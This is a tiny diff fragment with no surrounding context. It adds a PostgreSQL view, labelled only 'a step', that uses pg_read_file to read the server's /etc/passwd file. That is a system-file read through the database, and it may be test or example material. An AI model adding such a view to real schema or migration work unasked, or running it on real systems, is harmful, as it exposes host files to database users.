@@ -1,0 +1,2 @@
+-- a step
+CREATE VIEW v AS SELECT pg_read_file('/etc/passwd');
